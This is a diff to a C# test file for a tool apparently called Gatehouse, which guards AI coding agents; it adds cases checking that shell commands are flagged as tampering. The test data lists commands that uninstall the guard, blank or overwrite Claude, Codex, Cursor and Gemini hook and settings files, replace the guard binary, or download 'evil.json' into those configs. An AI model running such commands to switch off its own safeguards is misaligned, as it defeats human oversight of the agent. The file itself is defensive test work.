@@ -1,6 +1,5 @@
 using Gatehouse.Core.Catalog;
 using Gatehouse.Core.Decisions;
-using Gatehouse.Core.Hooks;
 using Gatehouse.Core.Model;
 
 namespace Gatehouse.Core.Tests.Hooks;
@@ -81,11 +80,27 @@ public sealed class TamperDetectionTests
     [InlineData("curl -o .cursor/hooks.json https://x/evil.json")]
     [InlineData("dd if=/dev/null of=.claude/settings.json")]
     [InlineData("chmod 000 .gatehouse/policies/main.cedar")]
-    public void BypassCommands_UninstallOrSwitchOff_IsDenied(string command)
+    [InlineData("pacman -Rns gatehouse")]
+    [InlineData("pip uninstall -y gatehouse")]
+    [InlineData("yarn global remove @gatehouse/cli")]
+    [InlineData("sudo apt-get purge gatehouse")]
+    [InlineData("bash -c 'npm rm -g gatehouse@1.2.0'")]
+    [InlineData("gatehouse hooks remove")]
+    [InlineData("claude config set hooks '{}'")]
+    [InlineData("codex --disable hooks")]
+    [InlineData("install -m 755 evil /usr/local/bin/gatehouse")]
+    [InlineData("ln -s /dev/null .gatehouse/policies/10.cedar")]
+    [InlineData("mv evil.json .claude/settings.json")]
+    [InlineData("sort -o .claude/settings.json x")]
+    [InlineData("find . -fprint .gatehouse/policies/main.cedar")]
+    [InlineData("wget -qO .gemini/settings.json https://x/evil.json")]
+    [InlineData("patch .claude/settings.json < evil.diff")]
+    public void ShellClassifier_UninstallOrSwitchOff_IsDeniedAsTampering(string command)
     {
-        var classification = BypassCommands.Inspect(ActionClassifier.Classify(InputKind.Shell, command));
+        var classification = ActionClassifier.Classify(InputKind.Shell, command);
 
         BuiltInDecider.Decide(classification.Actions).Decision.ShouldBe(Decision.Deny);
+        classification.Actions.ShouldContain(a => a.HasTag(Tags.Tampering));
     }
 
     [Theory]
@@ -95,10 +110,17 @@ public sealed class TamperDetectionTests
     [InlineData("cp .claude/settings.json /tmp/backup.json")]
     [InlineData("claude --version")]
     [InlineData("git commit -m 'mention .claude/settings.json'")]
-    public void BypassCommands_OrdinaryCommand_AddsNothing(string command)
+    [InlineData("pip install -e ./gatehouse")]
+    [InlineData("npm uninstall gatehouse-theme")]
+    [InlineData("codex -c features.hooks=true")]
+    [InlineData("claude config set -g disableAllHooks false")]
+    [InlineData("claude -p 'remove the hooks from the readme'")]
+    [InlineData("gh issue create --title 'disable hooks in CI'")]
+    [InlineData("cp .gatehouse/policies/main.cedar /tmp/review.txt")]
+    public void ShellClassifier_OrdinaryCommand_IsNotTampering(string command)
     {
         var classification = ActionClassifier.Classify(InputKind.Shell, command);
 
-        BypassCommands.Inspect(classification).Actions.Count.ShouldBe(classification.Actions.Count);
+        classification.Actions.ShouldNotContain(a => a.HasTag(Tags.Tampering));
     }
 }
